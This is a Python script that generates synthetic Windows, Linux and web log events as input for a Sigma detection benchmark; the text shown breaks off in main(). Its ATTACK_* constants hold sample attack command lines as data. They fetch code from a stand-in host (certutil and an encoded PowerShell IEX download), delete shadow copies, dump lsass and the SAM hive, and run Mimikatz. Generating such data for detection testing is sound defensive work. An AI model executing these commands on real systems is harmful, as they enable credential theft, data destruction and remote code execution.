#!/usr/bin/env python3
"""gen-sigma-bench.py — the input of the Sigma detection benchmark (bench/bench_sigma.c,
section "Sigma" of scripts/bench.sh): a deterministic mix of the events a Windows and
Linux estate sends a SIEM, with a few attacks among them that real SigmaHQ rules detect.

Usage: gen-sigma-bench.py N SEED > events.log      (the same N and SEED give the same bytes)

Mix (shares of N, approximate):
  60%  Windows process creations: half Sysmon EventID 1 as Winlogbeat writes it, half
       Security 4688 as EVTX-to-JSON dumps write it ({"Event":{"System":..,"EventData":..}});
       command lines of a real estate (svchost, browsers, Office, dllhost, git, ...)
  12%  Sysmon 12/13/14 registry events (Winlogbeat)
   9%  Sysmon 3 network connections (Winlogbeat)
   6%  PowerShell 4104 script blocks (Microsoft-Windows-PowerShell/Operational, both forms)
   7%  Linux syslog: sshd and sudo
   6%  Apache combined access log
About 0.5% of the events are attacks (ATTACK_* below), each written for named SigmaHQ
rules; the benign templates avoid what the public rules flag, so the matches of a run are
the attacks (with ../shared/sigma-rules/rules: about 0.4% of events, 2 rules per attack).
Python's standard library only; one random.Random(SEED) drives every choice.
"""
import base64
import json
import sys
from collections import namedtuple
from itertools import accumulate
from random import Random

ATTACK_SHARE = 0.005
T0 = 1732528800  # 2024-11-25 10:00:00 UTC: the first event; the clock only goes forward

SYSMON = "Microsoft-Windows-Sysmon/Operational"
PS_OP = "Microsoft-Windows-PowerShell/Operational"
SYS32 = "C:\\Windows\\System32\\"
SVCHOST = SYS32 + "svchost.exe"
SERVICES = SYS32 + "services.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
CMD = SYS32 + "cmd.exe"
POWERSHELL = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
MSEDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
GIT = "C:\\Program Files\\Git\\cmd\\git.exe"
JAVA = "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.9.9-hotspot\\bin\\java.exe"

USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "mallory", "nina", "oscar", "peggy", "quentin", "rupert", "sybil", "trent", "ursula",
         "victor", "wendy", "xavier", "yvonne", "zoe", "li.wei", "wang.fang", "zhang.min",
         "chen.jie", "liu.yang", "huang.lei"]
DOMAIN = "CORP"
FQDN = "corp.example.com"
SERVICE_ACCOUNTS = {"SYSTEM": "S-1-5-18", "LOCAL SERVICE": "S-1-5-19",
                    "NETWORK SERVICE": "S-1-5-20"}
LABELS = {"Low": "S-1-16-4096", "Medium": "S-1-16-8192", "High": "S-1-16-12288",
          "System": "S-1-16-16384"}

# Version resources Sysmon reports (Description, Product, Company), by executable name.
MS_OS = ("Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation")
FILE_INFO = {
    "chrome.exe": ("Google Chrome", "Google Chrome", "Google LLC"),
    "msedge.exe": ("Microsoft Edge", "Microsoft Edge", "Microsoft Corporation"),
    "git.exe": ("Git for Windows", "Git", "The Git Development Community"),
    "python.exe": ("Python", "Python", "Python Software Foundation"),
    "java.exe": ("OpenJDK Platform binary", "OpenJDK Platform 17.0.9", "Eclipse Adoptium"),
    "OneDrive.exe": ("Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation"),
    "Teams.exe": ("Microsoft Teams", "Microsoft Teams", "Microsoft Corporation"),
    "WINWORD.EXE": ("Microsoft Word", "Microsoft Office", "Microsoft Corporation"),
    "EXCEL.EXE": ("Microsoft Excel", "Microsoft Office", "Microsoft Corporation"),
    "POWERPNT.EXE": ("Microsoft PowerPoint", "Microsoft Office", "Microsoft Corporation"),
}

SERVICE_GROUPS = [
    ("netsvcs -p -s Schedule", "SYSTEM"), ("netsvcs -p -s gpsvc", "SYSTEM"),
    ("netsvcs -p -s Winmgmt", "SYSTEM"), ("netsvcs -p -s BITS", "SYSTEM"),
    ("LocalServiceNetworkRestricted -p -s Dhcp", "LOCAL SERVICE"),
    ("NetworkService -p -s Dnscache", "NETWORK SERVICE"),
    ("LocalSystemNetworkRestricted -p -s SysMain", "SYSTEM"),
    ("appmodel -p -s StateRepository", "SYSTEM"), ("DcomLaunch -p", "SYSTEM"),
    ("RPCSS -p", "NETWORK SERVICE"), ("LocalService -p -s EventSystem", "LOCAL SERVICE"),
    ("UnistackSvcGroup -s CDPUserSvc", None), ("wusvcs -p -s WaaSMedicSvc", "SYSTEM"),
    ("LocalServiceNoNetworkFirewall -p", "LOCAL SERVICE"), ("utcsvc -p", "SYSTEM"),
]
DLLHOST_CLSIDS = ["{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                  "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
                  "{76D0CB12-7604-4048-B83C-1005C7DDC503}",
                  "{9BA05972-F6A8-11CF-A442-00A0C90A8F39}",
                  "{02D4B3F1-FD88-11D1-960D-00805FC79235}"]
DOCS = ["Documents\\Q3 report.docx", "Documents\\Finance\\Budget 2025.xlsx",
        "Desktop\\Board deck.pptx", "Downloads\\meeting notes.docx",
        "OneDrive - Corp\\Invoices\\Invoice-10442.xlsx", "Documents\\Roadmap 2025.pptx",
        "Downloads\\contract draft v2.docx", "Documents\\HR\\headcount.xlsx"]
OFFICE_APP = {"docx": "WINWORD.EXE", "xlsx": "EXCEL.EXE", "pptx": "POWERPNT.EXE"}
SEARCH_ARGS = ('Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 '
               '-2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; '
               'MSIE 6.0; Windows NT; MS Search 6.0 Robot)" "C:\\ProgramData\\Microsoft\\Search'
               '\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" ')
GPU_PREFS = "UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAAQAAAAAAAAAAAAAAA="

BENIGN_SCRIPTS = [
    "Get-Service | Where-Object Status -eq 'Running' | "
    "Export-Csv C:\\Reports\\services.csv -NoTypeInformation",
    "Get-ChildItem -Path $env:USERPROFILE\\Documents -Recurse -Filter *.tmp | Remove-Item -WhatIf",
    "Import-Module ActiveDirectory; Get-ADUser -Filter 'Department -eq \"Finance\"' | "
    "Select-Object Name",
    "$d = Get-PSDrive C; '{0:N1} GB free' -f ($d.Free / 1GB)",
    "Get-NetAdapter | Where-Object Status -eq 'Up' | Select-Object Name, LinkSpeed",
    "Get-WinEvent -LogName System -MaxEvents 50 | Format-Table TimeCreated, Id, Message -AutoSize",
    "Set-Location C:\\Projects\\web; git pull; npm ci; npm run build",
    "Get-Printer | Where-Object PrinterStatus -ne 'Normal'",
    "Restart-Service -Name Spooler -Force",
    "Compress-Archive -Path C:\\Logs\\app\\*.log -DestinationPath C:\\Logs\\archive\\app.zip "
    "-Update",
]
# Registry keys a desktop writes all day (no autostart key: those are what rules watch).
REG_KEYS = [
    ("HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\{n}",
     "Binary Data"),
    ("HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Place MRU\\Max Display",
     "DWORD (0x00000019)"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\"
     "LastOnlineScanTimeForAppCategory\\{guid}", "QWORD (0x01db3f2a-0x{hex8})"),
    ("HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{sid}\\"
     "\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe", "Binary Data"),
    ("HKU\\{sid}\\Software\\Google\\Chrome\\BLBeacon\\state", "DWORD (0x00000001)"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
     "Binary Data"),
    ("HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{guid}"
     "\\Count\\{n}", "Binary Data"),
    ("HKLM\\SOFTWARE\\Microsoft\\Tracing\\msedge_RASAPI32\\EnableFileTracing",
     "DWORD (0x00000000)"),
]
REG_WRITERS = [EXPLORER, SVCHOST, OFFICE + "WINWORD.EXE", CHROME]
# Who connects where: (image, [(ip, hostname, port, port name)]). Only lsass talks
# Kerberos, Office only to Microsoft's ranges, as SigmaHQ's network rules expect.
NET_FLOWS = [
    (CHROME, [("142.250.74.110", "fra24s08-in-f14.1e100.net", 443, "https"),
              ("151.101.1.140", "-", 443, "https")]),
    (MSEDGE, [("13.107.21.200", "-", 443, "https"), ("204.79.197.200", "-", 443, "https")]),
    (SYS32 + "lsass.exe", [("10.10.1.10", "dc01." + FQDN, 88, "kerberos"),
                           ("10.10.1.11", "dc02." + FQDN, 389, "ldap")]),
    (SVCHOST, [("10.10.1.10", "dc01." + FQDN, 53, "domain"),
               ("10.10.2.20", "fileserver01." + FQDN, 445, "microsoft-ds"),
               ("20.190.159.0", "-", 443, "https")]),
    (OFFICE + "OUTLOOK.EXE", [("13.107.42.14", "-", 443, "https"),
                              ("52.97.146.178", "-", 443, "https")]),
]
URLS = ["/", "/index.html", "/about", "/blog/2024/11/release-notes", "/static/app.4f2c.js",
        "/static/site.css", "/images/logo.svg", "/api/v1/orders?page=3&size=50", "/login",
        "/search?q=winter+boots", "/products/8841", "/cart", "/favicon.ico", "/robots.txt"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/131.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
       "Version/18.1 Safari/605.1.15",
       "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
       "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"]
LINUX_HOSTS = ["web01", "web02", "db01", "bastion", "build01"]
LINUX_USERS = ["deploy", "alice", "bob", "ansible", "backup"]
SUDO_CMDS = ["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update",
             "/usr/bin/journalctl -u app -n 200", "/usr/bin/tail -n 100 /var/log/nginx/error.log",
             "/usr/bin/docker ps"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

# ---- attacks, each with the SigmaHQ rules it is written for ----------------------------
C2 = "198.51.100.23"
ENCODED = base64.b64encode(("IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')"
                            % C2).encode("utf-16-le")).decode()
# (image, command line, OriginalFileName)
ATTACK_PROCS = [
    # proc_creation_win_whoami_priv_discovery, ..._susp_local_system_owner_account_discovery
    (SYS32 + "whoami.exe", "whoami /priv", "whoami.exe"),
    # proc_creation_win_certutil_download, ..._certutil_download_direct_ip
    (SYS32 + "certutil.exe", "certutil -urlcache -split -f http://%s/update.exe "
     "C:\\Users\\Public\\update.exe" % C2, "CertUtil.exe"),
    # proc_creation_win_susp_shadow_copies_deletion
    (SYS32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet", "VSSADMIN.EXE"),
    # proc_creation_win_rundll32_process_dump_via_comsvcs, ..._rundll32_susp_activity
    (SYS32 + "rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 644 "
     "C:\\Windows\\Temp\\out.dmp full", "RUNDLL32.EXE"),
    # proc_creation_win_reg_dumping_sensitive_hives
    (SYS32 + "reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", "reg.exe"),
    # proc_creation_win_powershell_base64_encoded_cmd, ..._base64_iex, ..._encode, ...
    (POWERSHELL, "powershell.exe -NoP -W Hidden -enc " + ENCODED, "PowerShell.EXE"),
]
ATTACK_SCRIPTS = [
    # posh_ps_malicious_commandlets, posh_ps_nishang_malicious_commandlets,
    # posh_ps_malicious_keywords
    "Invoke-Mimikatz -DumpCreds",
    # posh_ps_susp_win32_shadowcopy_deletion
    "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }",
]
ATTACK_WEB = [
    ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)"),  # web_susp_useragents
    ("/download?file=../../../etc/passwd", UAS[2]),  # web_path_traversal_exploitation_attempt
]

# A process start as the templates describe it; account None means the desktop's user.
Proc = namedtuple("Proc", "image cmd parent account integrity")


def civil(days):
    """(year, month, day) of a count of days since 1970-01-01 (Howard Hinnant's algorithm)."""
    z = days + 719468
    era = z // 146097
    doe = z - era * 146097
    yoe = (doe - doe // 1460 + doe // 36524 - doe // 146096) // 365
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    d = doy - (153 * mp + 2) // 5 + 1
    m = mp + 3 if mp < 10 else mp - 9
    return yoe + era * 400 + (m <= 2), m, d


class Gen:
    """One stream of events; every choice comes from self.r so a seed fixes the output."""

    def __init__(self, seed):
        self.r = Random(seed)
        self.t = T0 * 1000  # milliseconds
        self.record = 1000000
        self.hashes = {}
        self.hosts = (["WS-%04d" % i for i in range(1, 181)] +
                      ["SRV-APP%02d" % i for i in range(1, 13)])
        self.owner = {h: self.r.choice(USERS) for h in self.hosts}
        self.sids = {u: "S-1-5-21-3623811015-3361044348-30300820-%d" % (1100 + i)
                     for i, u in enumerate(USERS)}
        # benign process templates and their weights
        programs = [(4, self.svchost), (4, self.browser), (1, self.explorer),
                    (1, self.conhost), (1, self.dllhost), (1, self.wmiprvse),
                    (1, self.taskhostw), (1, self.search), (1, self.git), (1, self.python),
                    (1, self.java), (1, self.msiexec), (1, self.powershell), (1, self.cmd),
                    (1, self.rundll32), (0.5, self.background_task), (0.5, self.onedrive),
                    (0.5, self.teams), (0.5, self.office)]
        self.makers = [m for _, m in programs]
        self.cum_weights = list(accumulate(w for w, _ in programs))

    # ---- small pieces ---------------------------------------------------------------
    def hexs(self, n):
        return "%0*x" % (n, self.r.getrandbits(4 * n))

    def guid(self):
        h = self.hexs(32).upper()
        return "{%s-%s-%s-%s-%s}" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])

    def pid(self):
        return self.r.randint(400, 30000)

    def utc(self, sep=" ", digits=3, z=""):
        s, ms = divmod(self.t, 1000)
        d, s = divmod(s, 86400)
        y, mo, day = civil(d)
        frac = ("%03d" % ms + "000000")[:digits]
        return "%04d-%02d-%02d%s%02d:%02d:%02d.%s%s" % (y, mo, day, sep, s // 3600, s // 60 % 60,
                                                        s % 60, frac, z)

    def clock(self):
        """(year, month, day, hour, minute, second) of the current event."""
        d, s = divmod(self.t // 1000, 86400)
        return civil(d) + (s // 3600, s // 60 % 60, s % 60)

    def file_hashes(self, image):
        if image not in self.hashes:  # one binary, one hash, across the whole estate
            self.hashes[image] = "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % tuple(
                self.hexs(n).upper() for n in (40, 32, 64, 32))
        return self.hashes[image]

    def host(self):
        """A Windows machine and the user working on it."""
        h = self.r.choice(self.hosts)
        return h, self.owner[h]

    # ---- benign process templates: each returns a Proc for the desktop's user --------
    def svchost(self, user):
        group, account = self.r.choice(SERVICE_GROUPS)
        return Proc(SVCHOST, SVCHOST + " -k " + group, SERVICES, account, "System")

    def browser(self, user):
        r = self.r
        image = r.choice([CHROME, CHROME, MSEDGE])
        kind = r.choice(["renderer", "renderer", "renderer", "gpu-process", "utility"])
        args = ["--type=" + kind]
        if kind == "renderer":
            args += ["--lang=en-US", "--device-scale-factor=1.25", "--num-raster-threads=4",
                     "--enable-main-frame-before-activation",
                     "--renderer-client-id=%d" % r.randint(5, 400),
                     "--time-ticks-at-unix-epoch=-%d" % r.randint(1731 * 10 ** 12, 1732 * 10 ** 12),
                     "--launch-time-ticks=%d" % r.randint(10 ** 8, 10 ** 11)]
        elif kind == "utility":
            args += ["--utility-sub-type=network.mojom.NetworkService", "--lang=en-US",
                     "--service-sandbox-type=none"]
        else:
            args.append("--gpu-preferences=" + GPU_PREFS)
        args += ["--mojo-platform-channel-handle=%d" % r.randint(2000, 9000),
                 "--field-trial-handle=%d,i,%d,%d,262144" % (r.randint(1800, 2400),
                                                             r.getrandbits(63), r.getrandbits(63)),
                 "--variations-seed-version", "/prefetch:%d" % r.randint(1, 8)]
        return Proc(image, '"%s" %s' % (image, " ".join(args)), image, None,
                    "Low" if kind == "renderer" else "Medium")

    def explorer(self, user):
        return Proc(EXPLORER, EXPLORER, SYS32 + "userinit.exe", None, "Medium")

    def conhost(self, user):
        return Proc(SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff "
                    "-ForceV1", CMD, None, "Medium")

    def dllhost(self, user):
        return Proc(SYS32 + "dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:" +
                    self.r.choice(DLLHOST_CLSIDS), SVCHOST, None, "Medium")

    def wmiprvse(self, user):
        return Proc(SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe "
                    "-secured -Embedding", SVCHOST, "NETWORK SERVICE", "System")

    def taskhostw(self, user):
        arg = self.r.choice(["", " {222A245B-E637-4AE9-A93F-A59CA119A75E}",
                             " -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"])
        return Proc(SYS32 + "taskhostw.exe", "taskhostw.exe" + arg, SVCHOST, None, "Medium")

    def search(self, user):
        image = SYS32 + "SearchProtocolHost.exe"
        return Proc(image, '"C:\\Windows\\system32\\SearchProtocolHost.exe" ' +
                    SEARCH_ARGS.format(n=self.r.randint(1, 90)), SYS32 + "SearchIndexer.exe",
                    "SYSTEM", "System")

    def git(self, user):
        sub = self.r.choice(["fetch --all --prune", "status --porcelain=v2 --branch",
                             "-c core.quotepath=false log --oneline -n 50",
                             "pull --rebase origin main", "diff --stat HEAD~3",
                             "rev-parse --show-toplevel"])
        code = "C:\\Users\\%s\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" % user
        return Proc(GIT, '"%s" %s' % (GIT, sub), code, None, "Medium")

    def python(self, user):
        home = "C:\\Users\\" + user
        py = home + "\\AppData\\Local\\Programs\\Python\\Python312\\python.exe"
        arg = self.r.choice([
            "manage.py runserver 127.0.0.1:8000", "-m pip list --format=json",
            "%s\\src\\reporting\\build_report.py --month 2024-%02d" % (home, self.r.randint(1, 11)),
            "-m pytest -q tests\\unit"])
        return Proc(py, '"%s" %s' % (py, arg), CMD, None, "Medium")

    def java(self, user):
        jar = self.r.choice([
            "C:\\Apps\\inventory\\inventory-service-3.4.1.jar --spring.profiles.active=prod",
            "C:\\Tools\\jenkins\\agent.jar -url https://ci.%s/ -workDir C:\\jenkins" % FQDN])
        return Proc(JAVA, '"%s" -Xms512m -Xmx2g -Dfile.encoding=UTF-8 -jar %s' % (JAVA, jar),
                    SERVICES, "SYSTEM", "System")

    def msiexec(self, user):
        # an installer's bootstrapper, unpacked in the user's temp folder, runs its MSI quietly
        msi = self.r.choice(["GoogleChromeStandaloneEnterprise64.msi", "7z2408-x64.msi",
                             "FirefoxSetup132.msi"])
        tmp = "C:\\Users\\%s\\AppData\\Local\\Temp\\%s" % (user, self.guid())
        return Proc(SYS32 + "msiexec.exe", '"C:\\Windows\\system32\\msiexec.exe" /i "%s\\%s" '
                    '/qn /norestart' % (tmp, msi), tmp + "\\setup.exe", None, "High")

    def powershell(self, user):
        script = self.r.choice(["Backup-Logs.ps1", "Sync-Printers.ps1", "Get-Inventory.ps1"])
        return Proc(POWERSHELL, '"%s" -NoLogo -NoProfile -File C:\\Scripts\\%s'
                    % (POWERSHELL, script), EXPLORER, None, "Medium")

    def cmd(self, user):
        sub = self.r.choice(['"C:\\Program Files\\nodejs\\npm.cmd" run build',
                             "C:\\Scripts\\logon.cmd", "ipconfig /flushdns",
                             "echo %date% %time% >> C:\\Logs\\heartbeat.txt"])
        return Proc(CMD, "C:\\Windows\\system32\\cmd.exe /c " + sub, EXPLORER, None, "Medium")

    def rundll32(self, user):
        arg = self.r.choice(["C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll "
                             "{9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
                             "C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
                             "Startupscan.dll,SusRunTask"])
        return Proc(SYS32 + "rundll32.exe", "C:\\Windows\\system32\\rundll32.exe " + arg,
                    SVCHOST, None, "Medium")

    def background_task(self, user):
        image = SYS32 + "backgroundTaskHost.exe"
        return Proc(image, '"C:\\Windows\\system32\\backgroundTaskHost.exe" '
                    '-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', SVCHOST, None,
                    "Low")

    def onedrive(self, user):
        image = "C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" % user
        arg = self.r.choice(["/background", "/updateInstalled /background"])
        return Proc(image, '"%s" %s' % (image, arg), EXPLORER, None, "Medium")

    def teams(self, user):
        image = "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" % user
        return Proc(image, '"%s" --type=renderer --autoplay-policy=no-user-gesture-required '
                    '--lang=en-US --renderer-client-id=%d /prefetch:1'
                    % (image, self.r.randint(5, 60)), image, None, "Medium")

    def office(self, user):
        doc = self.r.choice(DOCS)
        app = OFFICE + OFFICE_APP[doc.rsplit(".", 1)[1]]
        return Proc(app, '"%s" /n "C:\\Users\\%s\\%s" /o ""' % (app, user, doc), EXPLORER, None,
                    "Medium")

    # ---- the two JSON forms ---------------------------------------------------------
    def winlogbeat(self, host, channel, provider, eid, data):
        return json.dumps({
            "@timestamp": self.utc("T", 3, "Z"),
            "agent": {"type": "winlogbeat", "version": "8.15.3", "hostname": host},
            "host": {"name": host.lower()},
            "event": {"code": str(eid), "provider": provider},
            "winlog": {"channel": channel, "event_id": str(eid), "provider_name": provider,
                       "computer_name": "%s.%s" % (host, FQDN), "record_id": self.record,
                       "process": {"pid": 3152, "thread": {"id": 4128}}, "event_data": data}},
            separators=(",", ":"))

    def evtx(self, host, channel, provider, guid, eid, data):
        return json.dumps({"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {"Provider": {"#attributes": {"Name": provider, "Guid": guid}},
                       "EventID": eid, "Version": 2, "Level": 0, "Task": 13312, "Opcode": 0,
                       "Keywords": "0x8020000000000000",
                       "TimeCreated": {"#attributes": {"SystemTime": self.utc("T", 6, "Z")}},
                       "EventRecordID": self.record, "Correlation": None,
                       "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 9124}},
                       "Channel": channel, "Computer": "%s.%s" % (host, FQDN), "Security": None},
            "EventData": data}}, separators=(",", ":"))

    # ---- events ---------------------------------------------------------------------
    def process(self, host, user, p, original=None):
        """p as Sysmon 1 (Winlogbeat) or Security 4688 (EVTX JSON), one or the other."""
        name = p.account or user
        dom = "NT AUTHORITY" if name in SERVICE_ACCOUNTS else DOMAIN
        exe = p.image.rsplit("\\", 1)[1]
        r = self.r
        if r.random() < 0.5:
            desc, product, company = FILE_INFO.get(exe, (exe,) + MS_OS)
            return self.winlogbeat(host, SYSMON, "Microsoft-Windows-Sysmon", 1, {
                "RuleName": "-", "UtcTime": self.utc(), "ProcessGuid": self.guid(),
                "ProcessId": str(self.pid()), "Image": p.image,
                "FileVersion": "10.0.19041.%d (WinBuild.160101.0800)" % r.choice([1, 546, 3636]),
                "Description": desc, "Product": product, "Company": company,
                "OriginalFileName": original or exe, "CommandLine": p.cmd,
                "CurrentDirectory": "C:\\Users\\%s\\" % user if dom == DOMAIN else SYS32,
                "User": "%s\\%s" % (dom, name), "LogonGuid": self.guid(),
                "LogonId": "0x%x" % r.randint(0x3e7, 0xffffff),
                "TerminalSessionId": "1" if dom == DOMAIN else "0",
                "IntegrityLevel": p.integrity, "Hashes": self.file_hashes(p.image),
                "ParentProcessGuid": self.guid(), "ParentProcessId": str(self.pid()),
                "ParentImage": p.parent, "ParentCommandLine": p.parent,
                "ParentUser": "%s\\%s" % (dom, name)})
        return self.evtx(host, "Security", "Microsoft-Windows-Security-Auditing",
                         "{54849625-5478-4994-A5BA-3E3B0328C30D}", 4688, {
                             "SubjectUserSid": self.sids.get(name) or SERVICE_ACCOUNTS[name],
                             "SubjectUserName": name, "SubjectDomainName": dom,
                             "SubjectLogonId": "0x%x" % r.randint(0x3e7, 0xffffff),
                             "NewProcessId": "0x%x" % self.pid(), "NewProcessName": p.image,
                             "TokenElevationType": "%%1938", "ProcessId": "0x%x" % self.pid(),
                             "CommandLine": p.cmd, "TargetUserSid": "S-1-0-0",
                             "TargetUserName": "-", "TargetDomainName": "-",
                             "TargetLogonId": "0x0", "ParentProcessName": p.parent,
                             "MandatoryLabel": LABELS[p.integrity]})

    def registry(self):
        host, user = self.host()
        key, details = self.r.choice(REG_KEYS)
        key = key.format(sid=self.sids[user], n=self.r.randint(0, 40), guid=self.guid(),
                         hex8=self.hexs(8))
        eid = self.r.choice([12, 13, 13, 13, 13, 14])
        data = {"RuleName": "-",
                "EventType": {12: "CreateKey", 13: "SetValue", 14: "RenameKey"}[eid],
                "UtcTime": self.utc(), "ProcessGuid": self.guid(), "ProcessId": str(self.pid()),
                "Image": self.r.choice(REG_WRITERS),
                "TargetObject": key if eid == 13 else key.rsplit("\\", 1)[0]}
        if eid == 13:
            data["Details"] = details
        if eid == 14:
            data["NewName"] = data["TargetObject"] + ".old"
        data["User"] = "%s\\%s" % (DOMAIN, user)
        return self.winlogbeat(host, SYSMON, "Microsoft-Windows-Sysmon", eid, data)

    def network(self):
        host, user = self.host()
        image, dests = self.r.choice(NET_FLOWS)
        ip, name, port, pname = self.r.choice(dests)
        return self.winlogbeat(host, SYSMON, "Microsoft-Windows-Sysmon", 3, {
            "RuleName": "-", "UtcTime": self.utc(), "ProcessGuid": self.guid(),
            "ProcessId": str(self.pid()), "Image": image, "User": "%s\\%s" % (DOMAIN, user),
            "Protocol": "udp" if port == 53 else "tcp", "Initiated": "true",
            "SourceIsIpv6": "false",
            "SourceIp": "10.20.%d.%d" % (self.r.randint(0, 7), self.r.randint(2, 250)),
            "SourceHostname": "%s.%s" % (host, FQDN),
            "SourcePort": str(self.r.randint(49152, 65535)), "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": ip, "DestinationHostname": name,
            "DestinationPort": str(port), "DestinationPortName": pname})

    def script(self, text):
        host, _ = self.host()
        data = {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text,
                "ScriptBlockId": self.guid()[1:-1].lower(), "Path": ""}
        if self.r.random() < 0.5:
            return self.winlogbeat(host, PS_OP, "Microsoft-Windows-PowerShell", 4104, data)
        return self.evtx(host, PS_OP, "Microsoft-Windows-PowerShell",
                         "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", 4104, data)

    def syslog(self):
        r = self.r
        _, mo, day, hh, mm, ss = self.clock()
        head = "%s %2d %02d:%02d:%02d %s" % (MONTHS[mo - 1], day, hh, mm, ss, r.choice(LINUX_HOSTS))
        user = r.choice(LINUX_USERS)
        ip = "10.0.%d.%d" % (r.randint(0, 3), r.randint(2, 250))
        port = r.randint(30000, 65000)
        k = r.randrange(6)
        if k == 5:
            return "%s sudo: %8s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
                head, user, r.randint(0, 4), user, r.choice(SUDO_CMDS))
        if k == 0:
            key = base64.b64encode(r.randbytes(32)).decode().rstrip("=")
            msg = "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (
                user, ip, port, key)
        elif k == 1:
            msg = "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (
                user, 1000 + LINUX_USERS.index(user))
        elif k == 2:
            msg = "Received disconnect from %s port %d:11: disconnected by user" % (ip, port)
        elif k == 3:
            msg = "Disconnected from user %s %s port %d" % (user, ip, port)
        else:
            msg = "Failed password for %s from %s port %d ssh2" % (user, ip, port)
        return "%s sshd[%d]: %s" % (head, r.randint(900, 60000), msg)

    def access(self, path=None, ua=None):
        r = self.r
        y, mo, day, hh, mm, ss = self.clock()
        ip = "%d.%d.%d.%d" % (r.choice([203, 198, 81, 91]), r.randint(0, 255), r.randint(0, 255),
                              r.randint(1, 254))
        return '%s - - [%02d/%s/%04d:%02d:%02d:%02d +0000] "GET %s HTTP/1.1" %d %d "-" "%s"' % (
            ip, day, MONTHS[mo - 1], y, hh, mm, ss, path or r.choice(URLS),
            r.choice([200, 200, 200, 304, 404]), r.randint(200, 90000), ua or r.choice(UAS))

    def attack(self):
        k = self.r.randrange(len(ATTACK_PROCS) + len(ATTACK_SCRIPTS) + len(ATTACK_WEB))
        if k < len(ATTACK_PROCS):
            image, cmd, original = ATTACK_PROCS[k]
            host, user = self.host()
            return self.process(host, user, Proc(image, cmd, CMD, None, "High"), original)
        k -= len(ATTACK_PROCS)
        if k < len(ATTACK_SCRIPTS):
            return self.script(ATTACK_SCRIPTS[k])
        return self.access(*ATTACK_WEB[k - len(ATTACK_SCRIPTS)])

    def event(self):
        """The next line of the stream."""
        self.t += self.r.randint(0, 9)
        self.record += 1
        if self.r.random() < ATTACK_SHARE:
            return self.attack()
        x = self.r.random()
        if x < 0.60:
            host, user = self.host()
            make = self.r.choices(self.makers, cum_weights=self.cum_weights)[0]
            return self.process(host, user, make(user))
        if x < 0.72:
            return self.registry()
        if x < 0.81:
            return self.network()
        if x < 0.87:
            return self.script(self.r.choice(BENIGN_SCRIPTS))
        if x < 0.94:
            return self.syslog()
        return self.access()


def main():
    if len(sys.argv) != 3:
